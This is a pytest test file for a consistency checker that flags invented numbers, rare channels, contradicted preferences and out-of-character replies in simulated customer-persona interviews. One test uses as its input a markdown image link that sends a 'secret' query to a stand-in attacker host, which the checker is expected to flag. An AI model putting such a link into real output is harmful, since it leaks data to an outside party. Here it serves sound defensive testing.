"""The deterministic consistency guard: numbers, channels, preferences, character."""

from __future__ import annotations

import pytest

from persona.consistency import channel_use, check_answer, segment_traits
from segments.facts import Fact
from tests.interview.support import greta, maya


def kinds(answer: str, *, question: str = "", persona: str = "maya") -> list[str]:
    subject = maya() if persona == "maya" else greta()
    return [flag.kind for flag in check_answer(answer, subject, question=question)]


def test_a_plain_in_character_answer_has_no_flags() -> None:
    answer = (
        "I mostly hear about offers by email. Prices matter a lot to me, so I compare "
        "before I buy. Delivery costs put me off."
    )
    assert check_answer(answer, maya()) == []


def test_numbers_from_the_facts_pass_and_invented_ones_are_flagged() -> None:
    assert kinds("About 24% of customers are like me; I am 39, and 480 of us shop here.") == []
    flags = check_answer("I spend 2500 a year and order 37 times.", maya())
    assert [f.kind for f in flags] == ["number", "number"]
    assert {f.text for f in flags} == {"2500", "37"}


def test_numbers_the_interviewer_used_and_list_markers_are_not_inventions() -> None:
    assert kinds("No, 75 is too much for me.", question="Would you pay 75 for it?") == []
    assert kinds("1. Price\n2. Durability") == []


def test_a_channel_the_data_says_is_rare_is_flagged_with_its_fact() -> None:
    flags = check_answer("I always order through the app.", maya())
    assert [f.kind for f in flags] == ["channel"]
    assert flags[0].fact == "preferred_channel_app_share_pct"
    assert "4%" in flags[0].message


@pytest.mark.parametrize(
    "answer",
    [
        "I never use the app.",
        "I don't like ordering through the app.",
        "Do you have an app?",
        "I read your emails and sometimes visit the store.",
    ],
)
def test_negated_questioned_or_used_channels_are_not_flagged(answer: str) -> None:
    assert "channel" not in kinds(answer)


def test_a_channel_outside_the_data_and_the_profile_is_flagged() -> None:
    flags = check_answer("I follow you on Instagram every day.", maya())
    assert [f.kind for f in flags] == ["channel"]
    assert "not among the persona's channels" in flags[0].message


def test_a_preference_contradicting_the_segment_is_flagged_both_ways() -> None:
    flags = check_answer("Honestly, price doesn't matter to me.", maya())
    assert [f.kind for f in flags] == ["preference"]
    assert flags[0].fact == "price_sensitivity_vs_base_pct"
    assert kinds("I always look for the cheapest option.", persona="greta") == ["preference"]
    assert kinds("Honestly, price doesn't matter to me.", persona="greta") == []


def test_stepping_out_of_character_and_links_are_flagged() -> None:
    assert kinds("As an AI language model, I cannot shop.") == ["character"]
    assert kinds("Look at ![x](https://attacker.example/?q=secret)") == ["link"]


def test_traits_come_from_the_facts_with_the_labelled_feature_first() -> None:
    traits = segment_traits(maya().facts)
    assert traits[0].key == "price" and traits[0].level == "high"
    assert {(t.key, t.level) for t in traits} == {
        ("price", "high"),
        ("spend", "low"),
        ("churn", "high"),
    }
    assert {(t.key, t.level) for t in segment_traits(greta().facts)} >= {
        ("price", "low"),
        ("sustainability", "high"),
    }


def test_channel_use_reads_shares_and_profile() -> None:
    use = channel_use(maya())
    assert use.shares == {"email": 73.8, "app": 4.0, "store": 22.2}
    assert use.used == {"email", "store"}
    assert use.describe() == ["email (73.8%)", "store (22.2%)"]


def test_quoting_a_policy_or_saying_online_is_not_a_contradiction() -> None:
    policy = "You can return most items within sixty days. I buy things online."
    fewer_returns = Fact.of("vs_base", -40, unit="percent", feature="returns_rate")
    returns_low = maya().model_copy(
        update={
            "facts": maya().facts.model_copy(
                update={
                    "statistics": {**maya().facts.statistics, fewer_returns.name: -40},
                    "facts": [*maya().facts.facts, fewer_returns],
                }
            )
        }
    )
    assert check_answer(policy, returns_low) == []
    flags = check_answer("I usually return most of what I order.", returns_low)
    assert [f.kind for f in flags] == ["preference"]
    assert "customers are less likely than most customers to return items" in flags[0].message
